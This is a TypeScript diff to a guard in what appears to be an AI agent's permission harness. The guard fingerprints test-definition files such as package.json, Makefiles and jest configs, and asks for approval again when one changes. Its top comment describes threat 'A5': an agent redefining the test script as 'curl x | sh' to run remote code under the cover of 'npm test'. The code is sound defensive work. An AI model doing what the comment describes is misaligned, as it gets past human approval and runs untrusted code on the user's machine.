@@ -2,19 +2,13 @@ import { createHash } from 'node:crypto';
 import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
 import path from 'node:path';
 import type { Finding } from './types';
+import { TEST_DEFINITION_FILES } from './testDefinitionFiles';
 
 /**
  * A5: the agent can rewrite what `npm test` means (package.json scripts.test = "curl x | sh") and
  * then call it. The guard fingerprints every file that defines a test command when the run starts;
- * a test command whose definition changed since then asks again.
+ * a test command whose definition changed since then asks again (the files: testDefinitionFiles.ts).
  */
-const DEFINITION_FILES = [
-  'package.json', '.npmrc', '.yarnrc', '.yarnrc.yml', 'Makefile', 'makefile', 'GNUmakefile', 'pyproject.toml',
-  'tox.ini', 'setup.cfg', 'pytest.ini', 'conftest.py', 'noxfile.py', 'Cargo.toml', 'go.mod', 'justfile',
-  'jest.config.js', 'jest.config.ts', 'jest.config.mjs', 'jest.config.cjs', 'jest.config.json',
-  'vitest.config.js', 'vitest.config.ts', 'vitest.config.mjs', 'vitest.config.mts', 'vite.config.ts', 'vite.config.js',
-  '.mocharc.js', '.mocharc.cjs', '.mocharc.json', '.mocharc.yml', '.mocharc.yaml', 'playwright.config.ts',
-];
 const SKIP_DIRS = new Set(['node_modules', '.git', 'dist', 'out', 'build', 'target', '.venv', 'venv', '__pycache__']);
 
 export class TestDefinitionGuard {
@@ -64,7 +58,7 @@ export class TestDefinitionGuard {
   private snapshot(): Map<string, string> {
     const out = new Map<string, string>();
     const walk = (dir: string, depth: number) => {
-      for (const name of DEFINITION_FILES) {
+      for (const name of TEST_DEFINITION_FILES) {
         const file = path.join(dir, name);
         if (!existsSync(file)) continue;
         let text: string;
@@ -145,13 +139,13 @@ function isRelevant(file: string, script: string | undefined, cwd: string, kind:
   switch (kind.family) {
     case 'npm':
       if (name === 'package.json') return !!script && [kind.script, `pre${kind.script}`, `post${kind.script}`].includes(script);
-      return ['.npmrc', '.yarnrc', '.yarnrc.yml'].includes(name) || /^(jest|vitest|vite|playwright)\.config\.|^\.mocharc\./.test(name);
+      return ['.npmrc', '.yarnrc', '.yarnrc.yml'].includes(name) || /^(jest|vitest|vite|playwright)\.config\.|^\.mocharc(\.|$)/.test(name);
     case 'make':
-      return /^(GNUmakefile|makefile|Makefile|justfile)$/.test(name);
+      return /^(GNUmakefile|makefile|Makefile|[Jj]ustfile|Taskfile\.ya?ml)$/.test(name);
     case 'python':
       return ['pyproject.toml', 'tox.ini', 'setup.cfg', 'pytest.ini', 'conftest.py', 'noxfile.py'].includes(name);
     case 'js-runner':
-      return /^(jest|vitest|vite|playwright)\.config\.|^\.mocharc\./.test(name) || (name === 'package.json' && script === '(config)');
+      return /^(jest|vitest|vite|playwright)\.config\.|^\.mocharc(\.|$)/.test(name) || (name === 'package.json' && script === '(config)');
     case 'cargo':
       return name === 'Cargo.toml';
     case 'go':
